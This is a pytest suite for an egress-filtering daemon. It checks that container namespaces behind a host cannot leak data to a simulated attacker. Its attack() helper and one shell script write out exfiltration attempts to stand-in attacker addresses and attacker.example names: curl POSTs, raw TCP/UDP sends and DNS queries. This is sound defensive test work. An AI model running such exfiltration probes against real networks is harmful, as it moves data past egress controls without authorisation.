"""Issue 9, class 5: host mode misses containers.

Host mode filtered the OUTPUT hook only. A network namespace behind the
host (Docker / podman: a bridge, the container's veth a port of it,
masquerade on the uplink; or a nested `unshare -n` with a plain veth)
sends its traffic through FORWARD, and its DNS never met the redirect:
TCP, UDP and DNS reached the attacker. Here, from such a namespace, every
way out to the attacker (TCP, UDP, DNS to the attacker's server and to any
address on port 53, IPv4 and IPv6) must leave nothing in the attacker's
recorders nor on the wire of the fake internet; an allowed name still
resolves through egressd (the redirect) and fetches from its server.
"""
import json
import os

import pytest

import lab as L

MARK = "EGRESSD-CONTAINER-MARKER"

# argv: host port [tcp|udp]; sends MARK and prints what happened.
SENDER = r"""
import socket, sys
host, port, proto = sys.argv[1], int(sys.argv[2]), sys.argv[3]
fam = socket.AF_INET6 if ":" in host else socket.AF_INET
data = %r * 4
try:
    if proto == "udp":
        s = socket.socket(fam, socket.SOCK_DGRAM)
        for _ in range(3):
            s.sendto(data, (host, port))
        print("sent")
    else:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(data)
        print("sent")
except OSError as e:
    print("refused", e)
""" % MARK.encode()

KINDS = ["bridge", "veth"]


def in_ns(lab, ns, args, timeout=10):
    return lab.ns_run(ns, args, timeout=timeout)


def dnsq(lab, ns, server, name, tcp=False, port=53):
    args = [L.PY, os.path.join(L.SERVERS, "dnsq.py"), "--server", server, "--port", str(port),
            "--timeout", "2", "--q", name] + (["--tcp"] if tcp else [])
    p = in_ns(lab, ns, args, timeout=8)
    assert p.returncode == 0, p.stderr
    return json.loads(p.stdout)


def curl(lab, ns, url, *extra):
    return in_ns(lab, ns, ["curl", "-sS", "--noproxy", "*", "--cacert", lab.ca["ca"],
                           "--max-time", "4"] + list(extra) + [url], timeout=8)


def attack(lab, ns):
    """Every way out from the container namespace; returns nothing, the
    recorders and the sniffer judge."""
    for url in ("https://%s/" % L.ATTACKER4, "http://%s/" % L.ATTACKER4,
                "http://[%s]/" % L.ATTACKER6, "https://[%s]/" % L.ATTACKER6):
        curl(lab, ns, url, "-k", "--data", MARK)
    for host, port, proto in ((L.ATTACKER4, 443, "udp"), (L.ATTACKER6, 443, "udp"),
                              (L.ATTACKER4, 53, "udp"), (L.ATTACKER6, 53, "udp"),
                              (L.ATTACKER4, 53, "tcp"), (L.ATTACKER6, 53, "tcp"),
                              (L.ATTACKER4, 8443, "tcp"), (L.ATTACKER6, 8443, "udp")):
        in_ns(lab, ns, [L.PY, "-c", SENDER, host, str(port), proto])
    # DNS: to the attacker's server directly (UDP and TCP), to the resolver
    # for an attacker.example name (which it would forward there), to the
    # attacker's address on 53 (IPv6 too)
    dnsq(lab, ns, L.ATTACKER_DNS, "udp-direct.attacker.example")
    dnsq(lab, ns, L.ATTACKER_DNS, "tcp-direct.attacker.example", tcp=True)
    dnsq(lab, ns, L.RESOLVER4, "via-resolver.attacker.example")
    dnsq(lab, ns, L.RESOLVER6, "via-resolver6.attacker.example/AAAA")
    dnsq(lab, ns, L.ATTACKER6, "v6-direct.attacker.example")


def marked(rec):
    want = MARK.encode().hex()[:16]
    return [p for p in rec["packets"] if want in p.get("head", "")]


def to_attacker(rec):
    watch = {L.ATTACKER4, L.ATTACKER6, L.ATTACKER_DNS}
    return [p for p in rec["packets"] if p.get("dst") in watch]


def sync(lab, ns, addr):
    """A TCP flow from the container to the attacker last: once its deny is
    logged, every earlier probe crossed (or not) the filter. False: no deny
    came (asserted after the leak checks, so that a leak is what fails)."""
    curl(lab, ns, "http://%s:80/sync" % (("[%s]" % addr) if ":" in addr else addr))
    try:
        L.wait_for(lambda: any(x.get("event") == "deny" and x.get("dst") == addr
                               for x in lab.egressd.events()), 3, "deny of the sync flow")
    except TimeoutError:
        return False
    return True


@pytest.mark.parametrize("kind", KINDS)
def test_control_container_reaches_attacker_unfiltered(hostlab, kind):
    """Without egressd the container's probes do reach the attacker (so the
    test below can fail): TCP payload, the DNS query, the wire."""
    ns, c4, c6 = hostlab.add_container(kind)
    with L.sniffing(hostlab, L.ATTACKER4, L.ATTACKER6, L.ATTACKER_DNS) as rec:
        attack(hostlab, ns)
    assert hostlab.attacker_records()["total_bytes"] > 0
    assert hostlab.attacker_dns_queries() != []
    assert {p["dst"] for p in marked(rec)} >= {L.ATTACKER4, L.ATTACKER6}, rec


@pytest.mark.parametrize("kind", KINDS)
def test_container_behind_host_gets_nothing_out(hostlab, kind):
    ns, c4, c6 = hostlab.add_container(kind)
    e = hostlab.start_egressd()
    with L.sniffing(hostlab, L.ATTACKER4, L.ATTACKER6, L.ATTACKER_DNS) as rec:
        attack(hostlab, ns)
        synced = [sync(hostlab, ns, L.ATTACKER4), sync(hostlab, ns, L.ATTACKER6)]
    assert to_attacker(rec) == [], rec
    hostlab.assert_attacker_got_nothing()
    assert synced == [True, True], e.events()
    # the DNS of the container met egressd, and was refused there
    refused = e.events("dns_deny")
    assert any(x.get("src") == c4 and "attacker.example" in x.get("qname", "")
               for x in refused), e.events()


@pytest.mark.parametrize("kind", KINDS)
def test_container_allowed_name_resolves_through_egressd(hostlab, kind):
    """Positive control: the container's resolver (the fake internet's) is
    redirected to egressd's listener, which binds the answer; the fetch of
    the allowed name works, over IPv4 and IPv6."""
    ns, c4, c6 = hostlab.add_container(kind)
    e = hostlab.start_egressd()
    ans = dnsq(hostlab, ns, L.RESOLVER4, "updates.example.com")
    assert ans.get("rcode") == "NOERROR", ans
    e.wait_event(lambda x: x.get("event") == "dns_allow" and x.get("src") == c4
                 and x.get("qname") == "updates.example.com", what="dns_allow for the container")
    # DNS over IPv6, TCP, and to any address on 53: all answered by egressd
    ans6 = dnsq(hostlab, ns, L.RESOLVER6, "updates.example.com/AAAA", tcp=True)
    assert ans6.get("rcode") == "NOERROR", ans6
    e.wait_event(lambda x: x.get("event") == "dns_allow" and x.get("src") == c6,
                 what="dns_allow for the container over IPv6")
    assert dnsq(hostlab, ns, L.ATTACKER4, "x.attacker.example").get("rcode") == "REFUSED"
    p = curl(hostlab, ns, "https://updates.example.com/file", "-4")
    assert p.returncode == 0 and p.stdout == L.site_body("updates"), p.stderr
    p = curl(hostlab, ns, "https://updates.example.com/file", "-6")
    assert p.returncode == 0 and p.stdout == L.site_body("updates"), p.stderr
    allow = e.wait_event(lambda x: x.get("event") == "allow" and x.get("src") == c4,
                         what="allow event for the container's flow")
    assert allow.get("name") == "updates.example.com"
    assert "uid" not in allow  # forwarded: no local socket, no owner
    hostlab.assert_attacker_got_nothing()


SERVE = r"""
import socket, sys
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2])))
s.listen(8)
s.settimeout(20)
while True:
    try:
        c, _ = s.accept()
    except socket.timeout:
        break
    c.settimeout(2)
    try:
        c.recv(4096)
        c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 6\r\n\r\nserved")
    except OSError:
        pass
    c.close()
"""


def serve(lab, ns, addr, port):
    proc = lab.spawn(ns, [L.PY, "-c", SERVE, addr, str(port)])
    L.wait_for(lambda: ":%d " % port in lab.ns_run(ns, ["ss", "-Hltn"]).stdout, 5,
               "the container's server to listen")
    return proc


def test_containers_on_one_bridge_talk(hostlab):
    """Two containers on one bridge (br_netfilter sends their frames through
    FORWARD): not egress, so not filtered (a compose stack keeps working)."""
    ns, c4, c6 = hostlab.add_container("bridge")
    ns2, d4, d6 = hostlab.add_container("bridge", n=1)
    hostlab.start_egressd()
    serve(hostlab, ns2, "::", 8080)
    for a in (d4, "[%s]" % d6):
        p = curl(hostlab, ns, "http://%s:8080/" % a)
        assert p.returncode == 0 and p.stdout == "served", (a, p.stderr)
    assert [x for x in hostlab.egressd.events("deny") if x.get("dport") == 8080] == []


def test_published_port_reaches_container(hostlab):
    """A Docker -p style port forward (DNAT on the host's address to a
    container): the connection is to this host, not the container's egress,
    and works; the same container still gets nothing out."""
    ns, c4, c6 = hostlab.add_container("bridge")
    nat = ("table ip labdnat {\n"
           "  chain pre { type nat hook prerouting priority dstnat; policy accept;\n"
           "    iifname \"eth0\" ip daddr 203.0.113.1 tcp dport 8080 dnat to %s:8080\n"
           "  }\n}\n" % c4)
    p = hostlab.ns_run(hostlab.hst, ["nft", "-f", "-"], input=nat)
    assert p.returncode == 0, p.stderr
    hostlab.start_egressd()
    serve(hostlab, ns, "0.0.0.0", 8080)
    p = hostlab.ns_run(hostlab.net, ["curl", "-sS", "--max-time", "4",
                                     "http://203.0.113.1:8080/"], timeout=8)
    assert p.returncode == 0 and p.stdout == "served", p.stderr
    assert [x for x in hostlab.egressd.events("deny") if x.get("dport") == 8080] == []
    p = curl(hostlab, ns, "http://%s/" % L.ATTACKER4, "--data", MARK)
    assert p.returncode != 0
    hostlab.assert_attacker_got_nothing()


def test_egressd_run_under_host_mode(hostlab):
    """`egressd run` builds a veth too: under a host-mode egressd its
    traffic is decided by the run's own table and daemon (two verdicts on one
    packet would overwrite each other's marks), and it still works."""
    hostlab.start_egressd()
    env = dict(os.environ, EGRESSD_RUN_NET="192.0.2.0",
               EGRESSD_PRESET_DIR=os.path.join(L.REPO, "config", "presets"))
    for k in ("SUDO_UID", "SUDO_GID", "SUDO_USER", "SUDO_COMMAND", "EGRESSD_USER"):
        env.pop(k, None)
    log = os.path.join(hostlab.dir, "run.jsonl")
    script = ("curl -sS --noproxy '*' --cacert %s --max-time 5 https://updates.example.com/file;"
              " curl -sS --max-time 3 -d %s http://%s/ && exit 9; exit 0"
              % (hostlab.ca["ca"], MARK, L.ATTACKER4))
    p = hostlab.ns_run(hostlab.hst, [L.egressd_bin(), "run", "--allow", "updates.example.com",
                                     "--log", log, "--", "sh", "-c", script],
                       timeout=20, env=env)
    hostlab.note_stderr("egressd run", p.stderr)
    assert p.returncode == 0, (p.returncode, p.stdout, p.stderr)
    assert p.stdout == L.site_body("updates"), (p.stdout, p.stderr)
    hostlab.assert_attacker_got_nothing()
    assert hostlab.egressd.running()
